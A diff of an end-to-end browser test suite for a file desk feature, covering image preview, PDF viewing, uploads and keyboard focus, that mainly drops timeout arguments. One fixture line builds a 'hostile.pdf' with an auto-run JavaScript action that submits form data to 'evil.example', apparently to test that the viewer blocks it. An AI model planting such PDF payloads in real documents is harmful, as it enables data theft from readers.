@@ -53,12 +53,12 @@ describe('files at the desk', () => {
     await page.reload();
     await page.getByRole('button', { name: /^photo.png/ }).click();
     await page.locator('[data-preview] img').waitFor();
-    await until(async () => page.locator('[data-preview] img').evaluate((image: HTMLImageElement) => image.naturalWidth === 320), 'the picture', 5_000);
+    await until(async () => page.locator('[data-preview] img').evaluate((image: HTMLImageElement) => image.naturalWidth === 320), 'the picture');
     await shoot(page, 'image-light');
     const width = () => page.locator('[data-preview] img').evaluate((image) => image.getBoundingClientRect().width);
     const before = await width();
     await page.keyboard.press('+');
-    await until(async () => (await width()) > before, 'the larger picture', 2_000);
+    await until(async () => (await width()) > before, 'the larger picture');
     await page.keyboard.press('Escape');
     await page.getByRole('button', { name: /^terms.pdf/ }).press('Enter');
     await page.locator('[data-pdf-text]').getByText('Terms of service').waitFor();
@@ -68,7 +68,7 @@ describe('files at the desk', () => {
     await page.locator('[data-pdf-text]').getByText('The second page').waitFor();
     await page.getByRole('toolbar').getByText('Page 2 of 2').waitFor();
     await page.keyboard.press('Escape');
-    await until(async () => page.evaluate(() => document.activeElement?.textContent?.includes('terms.pdf') === true), 'focus back where it was', 2_000);
+    await until(async () => page.evaluate(() => document.activeElement?.textContent?.includes('terms.pdf') === true), 'focus back where it was');
     expect([outside, broken]).toEqual([[], []]);
     await context.close();
   });
@@ -112,11 +112,11 @@ describe('files at the desk', () => {
     }, type);
     await give('drop');
     await give('paste');
-    await until(async () => (await page.locator('[data-upload=done]').count()) === 2, 'both files', 10_000);
+    await until(async () => (await page.locator('[data-upload=done]').count()) === 2, 'both files');
     await page.getByRole('button', { name: 'Remove dropped.txt' }).press('Enter');
-    await until(async () => page.evaluate(() => document.activeElement?.hasAttribute('data-remove') === true), 'focus on the neighbour', 2_000);
+    await until(async () => page.evaluate(() => document.activeElement?.hasAttribute('data-remove') === true), 'focus on the neighbour');
     await page.keyboard.press('Enter');
-    await until(async () => page.evaluate(() => document.activeElement?.tagName === 'TEXTAREA'), 'focus in the text', 2_000);
+    await until(async () => page.evaluate(() => document.activeElement?.tagName === 'TEXTAREA'), 'focus in the text');
     expect(await desk.server.rows(`select count(*)::int as n from upload where state <> 'removed' and name like '%dropped%'`)).toEqual([{ n: 0 }]);
     await context.close();
   });
@@ -150,7 +150,7 @@ describe('files at the desk', () => {
     page.on('dialog', (dialog) => void ((dialogs += 1), dialog.dismiss()));
     await page.keyboard.press('n');
     await choose(page, [{ name: 'hostile.pdf', mimeType: 'application/pdf', buffer: aPdf(['Harmless to look at'], '/OpenAction << /S /JavaScript /JS (app.alert("run"); this.submitForm("https://evil.example")) >>') }, { name: 'broken.pdf', mimeType: 'application/pdf', buffer: Buffer.from('%PDF-1.7 and nothing that follows') }]);
-    await until(async () => (await page.locator('[data-upload=done]').count()) === 2, 'both files', 10_000);
+    await until(async () => (await page.locator('[data-upload=done]').count()) === 2, 'both files');
     await send(page, 'A hostile one.');
     await page.reload();
     await page.getByRole('button', { name: /^hostile.pdf/ }).click();
